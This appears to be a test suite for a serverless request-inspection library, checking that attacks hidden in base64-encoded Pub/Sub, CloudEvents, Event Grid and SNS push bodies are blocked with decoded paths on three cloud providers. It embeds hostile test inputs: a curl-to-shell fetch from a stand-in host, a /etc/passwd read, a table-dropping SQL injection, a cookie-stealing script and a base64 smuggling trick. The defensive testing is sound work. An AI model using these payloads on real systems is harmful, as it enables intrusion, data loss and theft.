/**
 * Push envelopes arriving over plain HTTP on every provider: a Pub/Sub push subscription, Eventarc and
 * other CloudEvents (structured mode, batches), Azure Event Grid webhooks (both schemas) and SNS
 * HTTP(S) subscriptions POST JSON whose payload is base64 (or JSON in a string). The payload is
 * inspected decoded, with a path that says so, through the real Lambda Function URL event shape, the
 * real `@azure/functions` HttpRequest and the real functions-framework server. Envelopes written for
 * this project from the documented shapes.
 */
import t, { type Test } from 'tap';
import { randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { HttpRequest, InvocationContext, type HttpResponseInit } from '@azure/functions';
import * as functions from '@google-cloud/functions-framework';
import { getTestServer } from '@google-cloud/functions-framework/testing';
import { protect as protectLambda, type ProtectOptions, type SecurityEvent } from '../../adapters/aws-lambda/index';
import { protect as protectAzure } from '../../adapters/azure-functions/index';
import { protect as protectGcp } from '../../adapters/gcp-functions/index';
import { functionUrl, lambdaContext } from '../helpers/lambda-events';
import { ATTACKS, BENIGN } from '../helpers/tables';
import { noise as bytes } from '../helpers/noise';

type Any = any;

const b64 = (s: string | Uint8Array): string => Buffer.from(s).toString('base64');

// ---------------------------------------------------------------------------------------------------
// Envelopes, from the documented shapes
// ---------------------------------------------------------------------------------------------------

/** A Pub/Sub push request body (also Eventarc's MessagePublishedData in binary mode). */
function pubsubPush(data: string, attributes: Record<string, string> = { origin: 'checkout' }): string {
  const id = String(13_000_000_000_000_000n + BigInt(Math.floor(Math.random() * 1e9)));
  return JSON.stringify({
    message: { attributes, data, messageId: id, message_id: id, publishTime: '2026-05-01T10:00:00.123Z', publish_time: '2026-05-01T10:00:00.123Z' },
    subscription: 'projects/shop-prod/subscriptions/orders-push',
  });
}

function cloudEvent(extra: Record<string, unknown>): Record<string, unknown> {
  return { specversion: '1.0', id: randomUUID(), source: '//shop.example/orders', type: 'com.example.order.created', time: '2026-05-01T10:00:00Z', ...extra };
}

/** An Eventarc Pub/Sub event in structured mode: MessagePublishedData as the CloudEvent's data. */
function eventarcPubsub(data: string): string {
  return JSON.stringify(
    cloudEvent({
      type: 'google.cloud.pubsub.topic.v1.messagePublished',
      source: '//pubsub.googleapis.com/projects/shop-prod/topics/orders',
      datacontenttype: 'application/json',
      data: JSON.parse(pubsubPush(data)),
    }),
  );
}

/** An Azure Event Grid delivery in the Event Grid schema: an array of events with a `data` object. */
function eventGridSchema(note: string): string {
  return JSON.stringify([
    {
      id: randomUUID(),
      topic: '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/shop/providers/Microsoft.EventGrid/topics/orders',
      subject: 'orders/7',
      eventType: 'Shop.OrderPlaced',
      eventTime: '2026-05-01T10:00:00.1234567Z',
      data: { orderId: 7, note },
      dataVersion: '1.0',
      metadataVersion: '1',
    },
  ]);
}

const SNS_TOPIC = 'arn:aws:sns:us-east-1:123456789012:orders';
const SIGNATURE = b64(Buffer.alloc(256, 7));

/** An SNS notification as POSTed to an HTTP(S) subscription (raw message delivery off). */
function snsNotification(message: string, attributes: Record<string, { Type: string; Value: string }> = {}): string {
  const doc: Record<string, unknown> = {
    Type: 'Notification',
    MessageId: randomUUID(),
    TopicArn: SNS_TOPIC,
    Subject: 'Order placed',
    Message: message,
    Timestamp: '2026-05-01T10:00:00.000Z',
    SignatureVersion: '2',
    Signature: SIGNATURE,
    SigningCertURL: 'https://sns.us-east-1.amazonaws.com/SimpleNotificationService-0000000000000000000000.pem',
    UnsubscribeURL: `https://sns.us-east-1.amazonaws.com/?Action=Unsubscribe&SubscriptionArn=${SNS_TOPIC}:0b8e3f0c-5b1a-4d39-9a41-6a0d1f4e2c77`,
  };
  if (Object.keys(attributes).length > 0) doc.MessageAttributes = attributes;
  return JSON.stringify(doc, null, 2);
}

interface Post {
  body: string;
  contentType: string;
}

interface Case {
  name: string;
  build: (v: string) => Post;
  /** Where the attack must be reported: this path or below it. */
  where: string;
}

const json = (body: string): Post => ({ body, contentType: 'application/json' });

const CASES: Case[] = [
  { name: 'Pub/Sub push, text message', build: (v) => json(pubsubPush(b64(v))), where: 'body.message.data["#base64"]' },
  { name: 'Pub/Sub push, JSON object message', build: (v) => json(pubsubPush(b64(JSON.stringify({ order: { id: 7, note: v } })))), where: 'body.message.data["#base64"].order.note' },
  { name: 'Pub/Sub push, JSON array message', build: (v) => json(pubsubPush(b64(JSON.stringify([{ id: 7 }, { note: v }])))), where: 'body.message.data["#base64"][1].note' },
  { name: 'Pub/Sub push, XML message', build: (v) => json(pubsubPush(b64(`<order id="7"><note>${v.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</note></order>`))), where: 'body.message.data["#base64"]' },
  {
    name: 'CloudEvent, structured mode, data_base64',
    build: (v) => ({ body: JSON.stringify(cloudEvent({ datacontenttype: 'text/plain', data_base64: b64(v) })), contentType: 'application/cloudevents+json' }),
    where: 'body.data_base64["#base64"]',
  },
  {
    name: 'Eventarc Pub/Sub, structured mode',
    build: (v) => ({ body: eventarcPubsub(b64(v)), contentType: 'application/cloudevents+json; charset=utf-8' }),
    where: 'body.data.message.data["#base64"]',
  },
  {
    name: 'CloudEvents batch',
    build: (v) => ({
      body: JSON.stringify([cloudEvent({ data_base64: b64('first order') }), cloudEvent({ datacontenttype: 'application/json', data_base64: b64(JSON.stringify({ note: v })) })]),
      contentType: 'application/cloudevents-batch+json',
    }),
    where: 'body[1].data_base64["#base64"]',
  },
  {
    name: 'Event Grid, CloudEvents schema, data_base64',
    build: (v) => ({
      body: JSON.stringify(
        cloudEvent({
          source: '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/shop/providers/Microsoft.EventGrid/topics/orders',
          type: 'Shop.OrderPlaced',
          subject: 'orders/7',
          data_base64: b64(v),
        }),
      ),
      contentType: 'application/cloudevents+json; charset=utf-8',
    }),
    where: 'body.data_base64["#base64"]',
  },
  { name: 'Event Grid, Event Grid schema', build: (v) => json(eventGridSchema(v)), where: 'body[0].data.note' },
  { name: 'SNS notification, text Message', build: (v) => ({ body: snsNotification(v), contentType: 'text/plain; charset=UTF-8' }), where: 'body.Message' },
  { name: 'SNS notification, JSON Message', build: (v) => ({ body: snsNotification(JSON.stringify({ order: { note: v } })), contentType: 'text/plain; charset=UTF-8' }), where: 'body.Message.order.note' },
  {
    name: 'SNS notification, Binary attribute',
    build: (v) => ({ body: snsNotification('{"orderId":7}', { trace: { Type: 'String', Value: 'abc-123' }, context: { Type: 'Binary', Value: b64(v) } }), contentType: 'text/plain; charset=UTF-8' }),
    where: 'body.MessageAttributes.context.Value["#base64"]',
  },
];

// ---------------------------------------------------------------------------------------------------
// Transports: the same POST through each provider's real HTTP objects
// ---------------------------------------------------------------------------------------------------

interface Reply {
  status: number;
  /** The body text the handler read, when it ran. */
  seen: string | undefined;
}

interface Transport {
  name: string;
  /** A protected handler that echoes the body it reads (denial-of-wallet alerts off: a test is a burst). */
  make(options: ProtectOptions): Promise<{ send(p: Post): Promise<Reply>; close(): Promise<void> }>;
}

let fn = 0;

const TRANSPORTS: Transport[] = [
  {
    name: 'Lambda Function URL',
    async make(options) {
      const wrapped = protectLambda(async (event: Any) => ({ statusCode: 200, body: event.body as string }), { denialOfWallet: false, ...options });
      return {
        async send(p) {
          const res: Any = await wrapped(functionUrl({ method: 'POST', path: '/', body: p.body, headers: { 'content-type': p.contentType } }) as Any, lambdaContext());
          return { status: res.statusCode, seen: res.statusCode === 200 ? res.body : undefined };
        },
        close: async () => undefined,
      };
    },
  },
  {
    name: 'Azure HTTP trigger',
    async make(options) {
      const handler = protectAzure(async (request: HttpRequest) => ({ status: 200, body: await request.text() }), { denialOfWallet: false, ...options });
      return {
        async send(p) {
          const ctx = new InvocationContext({
            invocationId: randomUUID(),
            functionName: 'events',
            logHandler: () => undefined,
            options: { trigger: { type: 'httpTrigger', name: 'request', methods: ['POST'], authLevel: 'function' } as Any },
          });
          const req = new HttpRequest({ method: 'POST', url: 'https://shop-events.azurewebsites.net/api/events?code=k3y', headers: { 'content-type': p.contentType }, body: { string: p.body } });
          const res = (await handler(req, ctx)) as HttpResponseInit;
          return { status: res.status as number, seen: res.status === 200 ? (res.body as string) : undefined };
        },
        close: async () => undefined,
      };
    },
  },
  {
    name: 'GCP HTTP function',
    async make(options) {
      const name = `push-${++fn}`;
      functions.http(name, protectGcp((req: Any, res: Any) => void res.status(200).send((req.rawBody as Buffer).toString('utf8')), { denialOfWallet: false, ...options }));
      const server = getTestServer(name);
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
      return {
        async send(p) {
          const res = await fetch(url, { method: 'POST', headers: { 'content-type': p.contentType }, body: p.body });
          const text = await res.text();
          return { status: res.status, seen: res.status === 200 ? text : undefined };
        },
        close: () => new Promise<void>((resolve) => server.close(() => resolve())),
      };
    },
  },
];

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

/** Runs `body` once per transport, on a protected handler of its own that logs into `lines`. */
async function eachTransport(
  t: Test,
  options: Partial<ProtectOptions>,
  body: (t: Test, h: Awaited<ReturnType<Transport['make']>>, lines: SecurityEvent[], log: (line: string) => void, tr: Transport) => Promise<void>,
): Promise<void> {
  for (const tr of TRANSPORTS) {
    await t.test(tr.name, async (t) => {
      const { lines, log } = logs();
      const h = await tr.make({ ...options, log } as ProtectOptions);
      t.teardown(h.close);
      await body(t, h, lines, log, tr);
    });
  }
}

const under = (path: string, prefix: string): boolean => path === prefix || path.startsWith(`${prefix}.`) || path.startsWith(`${prefix}[`);

// ---------------------------------------------------------------------------------------------------

t.test('an attack inside the encoded payload is blocked, with the decoded path, on every provider', async (t) => {
  await eachTransport(t, {}, async (t, h, lines, log) => {
    for (const c of CASES) {
      for (const a of ATTACKS) {
        const before = lines.length;
        const r = await h.send(c.build(a.payload));
        t.equal(r.status, 403, `${c.name}: ${a.class} ${a.payload}`);
        const ev = lines[before];
        t.ok(ev?.findings.some((f) => under(f.path, c.where)), `${c.name}: reported under ${c.where} (got ${ev?.findings.map((f) => f.path).join(', ')})`);
      }
    }
  });
});

t.test('benign envelopes reach the handler byte for byte, without a security event', async (t) => {
  await eachTransport(t, {}, async (t, h, lines, log) => {
    for (const c of CASES) {
      for (const text of BENIGN) {
        const p = c.build(text);
        const r = await h.send(p);
        t.equal(r.status, 200, `${c.name}: ${text}`);
        t.equal(r.seen, p.body, 'the handler read the envelope as sent');
      }
    }
    t.same(lines, [], 'no security events');
  });
});

/** A small protobuf message (field 1: string, 2: varint, 3: string, 4: fixed64), as a publisher's schema encodes it. */
function protobuf(sku: string, qty: number, note: string): Buffer {
  const str = (no: number, s: string) => {
    const b = Buffer.from(s, 'utf8');
    return Buffer.concat([Buffer.from([(no << 3) | 2, b.length]), b]);
  };
  return Buffer.concat([str(1, sku), Buffer.from([2 << 3, qty]), str(3, note), Buffer.from([(4 << 3) | 1]), bytes(qty, 8)]);
}

t.test('platform envelopes and binary payloads pass: validation handshakes, gzip, protobuf, encrypted bytes', async (t) => {
  const posts: Array<[string, Post]> = [
    [
      'Event Grid subscription validation',
      json(
        JSON.stringify([
          {
            id: randomUUID(),
            topic: '/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/shop/providers/Microsoft.EventGrid/topics/orders',
            subject: '',
            data: { validationCode: '512d38b6-c7b8-40c8-89fe-f46f9e9622b6', validationUrl: 'https://rp-eastus2.eventgrid.azure.net:553/eventsubscriptions/orders-hook/validate?id=512d38b6&t=2026-05-01T10:00:00.0000000Z&apiVersion=2022-06-15&token=xyz' },
            eventType: 'Microsoft.EventGrid.SubscriptionValidationEvent',
            eventTime: '2026-05-01T10:00:00.0000000Z',
            metadataVersion: '1',
            dataVersion: '2',
          },
        ]),
      ),
    ],
    [
      'SNS subscription confirmation',
      {
        contentType: 'text/plain; charset=UTF-8',
        body: JSON.stringify({
          Type: 'SubscriptionConfirmation',
          MessageId: randomUUID(),
          Token: 'a'.repeat(32) + '0123456789abcdef'.repeat(12),
          TopicArn: SNS_TOPIC,
          Message: `You have chosen to subscribe to the topic ${SNS_TOPIC}.\nTo confirm the subscription, visit the SubscribeURL included in this message.`,
          SubscribeURL: `https://sns.us-east-1.amazonaws.com/?Action=ConfirmSubscription&TopicArn=${SNS_TOPIC}&Token=${'0123456789abcdef'.repeat(8)}`,
          Timestamp: '2026-05-01T10:00:00.000Z',
          SignatureVersion: '1',
          Signature: SIGNATURE,
          SigningCertURL: 'https://sns.us-east-1.amazonaws.com/SimpleNotificationService-0000000000000000000000.pem',
        }),
      },
    ],
    ['Pub/Sub push, attributes only', json(JSON.stringify({ message: { attributes: { objectId: 'a.txt', eventType: 'OBJECT_FINALIZE' }, messageId: '1', publishTime: '2026-05-01T10:00:00Z' }, subscription: 'projects/p/subscriptions/s' }))],
    ['Pub/Sub push, gzip JSON', json(pubsubPush(b64(gzipSync(JSON.stringify({ orders: Array.from({ length: 50 }, (_, i) => ({ id: i, sku: `BK-${1000 + i}` })) })))))],
    ['SNS binary attribute, gzip', { contentType: 'text/plain; charset=UTF-8', body: snsNotification('{"orderId":7}', { blob: { Type: 'Binary', Value: b64(gzipSync('hello world, hello world')) } }) }],
  ];
  for (let i = 0; i < 40; i++) posts.push([`Pub/Sub push, protobuf #${i}`, json(pubsubPush(b64(protobuf(`BK-${1040 + i}`, i + 1, `gift wrap, deliver to door ${i}`))))]);
  for (let i = 0; i < 40; i++) posts.push([`Pub/Sub push, encrypted bytes #${i}`, json(pubsubPush(b64(bytes(i + 1, 48 + i * 61))))]);
  for (let i = 0; i < 10; i++) posts.push([`CloudEvent, binary data_base64 #${i}`, { contentType: 'application/cloudevents+json', body: JSON.stringify(cloudEvent({ datacontenttype: 'application/octet-stream', data_base64: b64(bytes(100 + i, 512)) })) }]);
  await eachTransport(t, {}, async (t, h, lines, log) => {
    for (const [what, p] of posts) {
      const r = await h.send(p);
      t.equal(r.status, 200, what);
      t.equal(r.seen, p.body, `${what}: unchanged`);
    }
    t.same(lines, [], 'no security events');
  });
});

t.test('binary payloads: their text runs are inspected (a protobuf string field, text padded with junk)', async (t) => {
  const attack = "x'; DROP TABLE customers; --";
  const junk = Buffer.concat([Buffer.from(attack), bytes(9, 12)]);
  await eachTransport(t, {}, async (t, h, lines, log) => {
    for (const [what, data] of [['protobuf', protobuf('BK-1042', 2, attack)], ['junk-padded text', junk]] as const) {
      t.equal((await h.send(json(pubsubPush(b64(data))))).status, 403, what);
      t.ok(lines.at(-1)?.findings.some((f) => f.class === 'sqli' && under(f.path, 'body.message.data["#base64"]')), `${what}: ${lines.at(-1)?.where}`);
    }
  });
});

t.test('monitor mode: the handler gets the envelope, the event says monitor', async (t) => {
  await eachTransport(t, { mode: 'monitor' }, async (t, h, lines, log) => {
    for (const c of CASES) {
      const p = c.build('$(curl http://evil.example/x.sh | sh)');
      const r = await h.send(p);
      t.equal(r.status, 200, c.name);
      t.equal(r.seen, p.body);
    }
    t.equal(lines.length, CASES.length);
    t.ok(lines.every((l) => l.action === 'monitor'));
    t.ok(lines.every((l, i) => l.findings.some((f) => under(f.path, CASES[i]!.where))), 'with the decoded paths');
  });
});

t.test('malformed encodings: a clear result, never a crash', async (t) => {
  const attack = '<script>alert(document.cookie)</script>';
  // What a handler's `Buffer.from(data, 'base64')` reads: it skips characters outside the alphabet.
  const smuggled = b64(attack).replace(/(.{6})/g, '$1!');
  t.equal(Buffer.from(smuggled, 'base64').toString(), attack, 'the lenient decoder a handler uses reads the attack');
  await eachTransport(t, {}, async (t, h, lines, log, tr) => {
    const strict = await tr.make({ log, paranoia: 2 });
    t.teardown(strict.close);

    t.equal((await h.send(json(pubsubPush(smuggled)))).status, 403, 'an attack behind characters a strict decoder refuses');
    t.equal(lines.at(-1)?.where, 'body.message.data["#base64"]');

    const odd = json(pubsubPush('not base64 at all, just words'));
    const r = await h.send(odd);
    t.equal(r.status, 200, 'invalid base64 with nothing in it passes at paranoia 1');
    t.equal(r.seen, odd.body);
    t.equal((await strict.send(odd)).status, 403, 'at paranoia 2 it is a protocol finding');
    t.equal(lines.at(-1)?.rule, 'protocol.invalid-base64');
    t.equal(lines.at(-1)?.where, 'body.message.data');

    const weird: Post[] = [
      json(JSON.stringify({ message: { data: 42 }, subscription: 'projects/p/subscriptions/s' })),
      json(JSON.stringify({ message: null, subscription: 'projects/p/subscriptions/s' })),
      json(JSON.stringify({ message: { data: '' }, subscription: 'projects/p/subscriptions/s' })),
      json(JSON.stringify({ message: { data: b64('ok') }, subscription: 7 })),
      json(JSON.stringify([])),
      json(JSON.stringify([cloudEvent({ data_base64: null }), 5, null, 'x'])),
      { contentType: 'application/cloudevents+json', body: JSON.stringify(cloudEvent({ data_base64: '====' })) },
      { contentType: 'text/plain', body: JSON.stringify({ Type: 'Notification', TopicArn: SNS_TOPIC, Message: 'x', MessageAttributes: { a: null, b: { Type: 'Binary' }, c: { Type: 'Binary', Value: 5 } } }) },
    ];
    for (const p of weird) {
      const w = await h.send(p);
      t.equal(w.status, 200, p.body.slice(0, 60));
      t.equal(w.seen, p.body);
    }
    const n = lines.length;
    // Not an envelope, but base64 text in any string value is read decoded (engine.ts, base64Text).
    t.equal((await h.send(json(JSON.stringify({ message: { data: b64('; cat /etc/passwd') } })))).status, 403, 'no subscription, base64 text still read');
    t.equal(lines.length, n + 1);
    t.equal(lines[n]?.where, 'body.message.data["#base64"]');
  });
});

t.test('limits: a payload that decodes past maxBytes is a limits finding', async (t) => {
  for (const tr of TRANSPORTS) {
    t.test(tr.name, async (t) => {
      const { lines, log } = logs();
      const h = await tr.make({ log, limits: { maxBytes: 64 * 1024 } });
      t.teardown(h.close);
      const r = await h.send(json(pubsubPush(b64('order note '.repeat(4000)))));
      t.equal(r.status, 413, 'only a size limit blocks: Payload Too Large');
      t.equal(lines.at(-1)?.rule, 'limits.bytes');
      t.equal(lines.at(-1)?.class, 'limits');
    });
  }
});
